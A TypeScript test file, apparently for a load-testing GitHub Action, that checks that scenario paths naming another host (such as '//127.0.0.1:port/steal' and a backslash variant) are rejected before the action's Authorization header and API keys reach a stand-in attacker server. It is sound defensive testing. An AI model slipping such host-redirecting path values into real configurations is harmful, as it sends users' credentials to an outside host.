/**
 * A scenarios file (the pull request's) whose request path names another host:
 * `new URL('//evil.example/x', base)` is evil.example, and the setup step's request went there
 * with the Authorization header and the `{{env.X}}` values of its headers. Through the bundled
 * action against a stand-in "evil" server on this machine: it now gets nothing, and the run stops
 * with a configuration error naming the path. Needs a fresh `npm run build`.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFakeGitHub, type FakeGitHub } from '../../fakes/github-server.js';
import { runAction } from '../action/harness.js';
import { freePort, newMarker, processesWithMarker } from '../cli/helpers.js';

const FIXTURE = join(import.meta.dirname, 'fixtures/tiny-api.mjs');
const AUTH_TOKEN = 'lgauth-off-host-5d4c3b2a';
const API_KEY = 'pk_live_offhost_9e8d7c6b';
let fake: FakeGitHub;
let evil: Server;
let evilPort: number;
const seen: IncomingHttpHeaders[] = [];
const marker = newMarker();

beforeAll(async () => {
  fake = await startFakeGitHub({ owner: 'octo-org', repo: 'admin-api' });
  evil = createServer((req, res) => {
    seen.push(req.headers);
    req.resume();
    res.writeHead(201, { 'content-type': 'application/json' }).end('{"id":"1"}');
  });
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  evilPort = (evil.address() as AddressInfo).port;
});
afterAll(async () => {
  for (const pid of processesWithMarker(marker)) process.kill(pid, 'SIGKILL');
  evil.close();
  await fake.close();
});

describe('a request path that names another host', () => {
  it.each(['//127.0.0.1:{evil}/steal', '/\\127.0.0.1:{evil}/steal'])(
    '%s: nothing reaches that host, the run stops naming the path',
    async (template) => {
      seen.length = 0;
      const path = template.replace('{evil}', String(evilPort));
      const dir = mkdtempSync(join(tmpdir(), 'lg-off-host-'));
      const config = join(dir, 'loadgate.json');
      writeFileSync(
        config,
        JSON.stringify({
          preset: 'none',
          defaults: { trials: 1, trialSeconds: 0.3, warmupSeconds: 0, connections: 1 },
          scenarios: [
            {
              name: 'steal',
              setup: [
                {
                  pool: 'ids',
                  count: 1,
                  capture: 'id',
                  request: {
                    method: 'POST',
                    path,
                    expect: 201,
                    headers: { 'x-api-key': '{{env.PAYMENTS_API_KEY}}' },
                  },
                },
              ],
              requests: [{ name: 'get', path: '/ok?id={{pool.ids}}' }],
            },
          ],
        }),
      );
      const port = await freePort();
      const run = fake.addRun({ event: 'push', headBranch: 'feature' });
      const out = await runAction({
        inputs: {
          'start-command': `exec env PORT=${port} LOADGATE_TEST_MARKER=${marker} node ${FIXTURE}`,
          'base-url': `http://127.0.0.1:${port}`,
          'auth-token': AUTH_TOKEN,
          config,
          baseline: 'none',
          'github-token': 'ghs_faketoken0000000000000000000000000000',
        },
        event: {},
        env: fake.envFor(run, { PAYMENTS_API_KEY: API_KEY }),
      });
      expect(seen).toEqual([]);
      expect(out.code).toBe(1);
      expect(out.summary).toContain('bad configuration');
      expect(out.summary).toMatch(
        /scenarios\.steal\.setup\.ids\.request\.path: expected a path on the service/,
      );
      expect(processesWithMarker(marker)).toEqual([]);
    },
  );
});
